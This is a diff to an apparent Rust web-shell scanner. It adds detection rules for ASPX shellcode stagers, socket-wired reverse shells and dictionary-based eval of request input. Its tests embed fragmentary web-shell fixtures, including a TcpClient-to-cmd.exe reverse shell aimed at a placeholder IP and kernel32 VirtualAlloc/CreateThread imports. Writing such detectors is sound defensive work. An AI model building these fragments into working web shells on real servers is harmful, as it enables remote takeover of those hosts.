@@ -564,20 +564,69 @@ pub(crate) fn asp(t: &str, hits: &mut Vec<Hit>) {
     if !reported(hits, "scan.heuristic.asp_file_path") {
         disk_path(t, hits);
     }
+    if t.contains("dllimport") || t.contains("getstream()") {
+        native_and_socket_shells(t, hits);
+    }
 }
 
-/// `obj.Write x`, `obj.WriteText(x)` as statement `s`: the object written to (not `Response`)
-/// and the text after the method's name.
+/// ASP.NET pages that leave the web shell's request-response loop: bytes run as machine code
+/// through the Windows API (`VirtualAlloc` then `CreateThread`: a Cobalt Strike or Meterpreter
+/// stager), or a shell process wired to a socket (a reverse shell).
+fn native_and_socket_shells(t: &str, hits: &mut Vec<Hit>) {
+    let shellcode = t.contains("dllimport")
+        && t.contains("virtualalloc")
+        && [
+            "createthread",
+            "getdelegateforfunctionpointer",
+            "queueuserapc",
+        ]
+        .iter()
+        .any(|m| t.contains(m));
+    if let Some(p) = shellcode.then(|| t.find("virtualalloc")).flatten() {
+        hits.push(Hit {
+            check: "scan.heuristic.asp_shellcode",
+            severity: Severity::Critical,
+            title: "ASPX runs machine code it carries or receives".into(),
+            why: "the page imports VirtualAlloc and starts a thread (or calls a pointer) in the memory it allocates: a shellcode stager (Cobalt Strike, Meterpreter) inside the web server's process".into(),
+            attack: vec!["T1505.003".into(), "T1055".into()],
+            offset: Some(p),
+            rule: None,
+        });
+    }
+    let socket = ["tcpclient(", "new socket("].iter().find_map(|m| t.find(m));
+    if let Some(p) = socket
+        && t.contains("getstream()")
+        && t.contains("redirectstandardinput")
+        && (t.contains("startinfo") || t.contains("processstartinfo"))
+    {
+        hits.push(Hit {
+            check: "scan.heuristic.asp_reverse_shell",
+            severity: Severity::Critical,
+            title: "ASPX wires a process to a network socket".into(),
+            why: "the page opens a socket and starts a process with its standard input redirected, and copies between them: a reverse or bind shell".into(),
+            attack: vec!["T1505.003".into(), "T1059".into()],
+            offset: Some(p),
+            rule: None,
+        });
+    }
+}
+
+/// `obj.Write x`, `obj.WriteText(x)`, `dict.Add "k", x` as statement `s`: the object written
+/// to (not `Response`) and the text of what is written.
 fn stream_write(s: &str) -> Option<(&str, &str)> {
     // The statement without the `:` or newline that ends it.
     let s = s.trim().trim_end_matches([':', ';']);
     let name_len = s.find(|c: char| !is_ident(c))?;
     let (object, rest) = s.split_at(name_len);
-    let arg = [".writetext", ".write"]
-        .iter()
-        .find_map(|m| rest.strip_prefix(m))?;
-    (!object.is_empty() && object != "response" && arg.starts_with([' ', '(']))
-        .then_some((object, arg))
+    // A dictionary's `d.Add "k", value` keeps the value, its second argument.
+    let arg = match rest.strip_prefix(".add") {
+        Some(args) if args.starts_with([' ', '(']) => &args[args.find(',')? + 1..],
+        _ => [".writetext", ".write"]
+            .iter()
+            .find_map(|m| rest.strip_prefix(m))
+            .filter(|a| a.starts_with([' ', '(']))?,
+    };
+    (!object.is_empty() && object != "response").then_some((object, arg))
 }
 
 /// Extensions of pictures: files that hold no code unless code was hidden in them. (Not used
@@ -1350,8 +1399,9 @@ fn bare_value(value: &str, inputs: &[&str], direct: &[&str]) -> bool {
         let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
         let (name, rest) = arg.split_at(name_len);
         if direct.contains(&name) {
-            // A stream that holds the input is read back whole: `s.ReadText`, `s.Read`.
-            let read = [".readtext", ".read"]
+            // A stream that holds the input is read back whole: `s.ReadText`, `s.Read`; a
+            // dictionary's item: `d.Item("k")`.
+            let read = [".readtext", ".read", ".item"]
                 .iter()
                 .find_map(|r| rest.strip_prefix(r))
                 .filter(|r| !r.starts_with(is_ident));
@@ -2046,6 +2096,26 @@ file.write rs(i).name
             "<%\nb = Request.BinaryRead(n)\nResponse.Write b\nExecute \"Call Page\"\n%>",
         ] {
             assert!(ids(asp, page).is_empty(), "{page}: {:?}", ids(asp, page));
+        }
+    }
+
+    #[test]
+    fn dictionaries_shellcode_stagers_and_reverse_shells() {
+        let dict = "<%\nSet d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"k\", Request.Form(\"c\")\nExecute d.Item(\"k\")\n%>";
+        assert_eq!(ids(asp, dict), ["scan.heuristic.asp_eval"]);
+        // A dictionary of the page's own texts, run; the request only looked up in it.
+        let own = "<%\nd.Add \"k\", \"Call Home()\"\nExecute d.Item(Request(\"k\"))\n%>";
+        assert!(ids(asp, own).is_empty(), "{:?}", ids(asp, own));
+        let stager = "<%@ Page Language=\"C#\" %><script runat=\"server\">\n[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n[DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n</script>";
+        assert_eq!(ids(asp, stager), ["scan.heuristic.asp_shellcode"]);
+        let reverse = "<% var c = new TcpClient(\"203.0.113.9\", 4444); var st = c.GetStream();\nvar p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.RedirectStandardInput = true; p.Start(); %>";
+        assert_eq!(ids(asp, reverse), ["scan.heuristic.asp_reverse_shell"]);
+        // A page that imports the API for something else; a socket client with no process.
+        for page in [
+            "<script runat=\"server\">[DllImport(\"kernel32\")] static extern uint GetTickCount();</script>",
+            "<% var c = new TcpClient(host, 25); var st = c.GetStream(); st.Write(b, 0, b.Length); %>",
+        ] {
+            assert!(ids(asp, page).is_empty(), "{page}");
         }
     }
 
